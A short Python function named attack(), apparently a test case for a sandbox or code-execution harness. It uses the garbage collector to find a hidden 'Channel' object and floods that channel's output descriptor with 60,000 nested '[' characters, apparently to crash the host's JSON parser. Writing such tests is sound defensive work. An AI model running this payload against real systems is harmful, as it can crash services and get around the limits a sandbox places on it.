def attack():
    import gc, json, os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    os.write(channel.fd_out, b"[" * 60000 + b"\n")
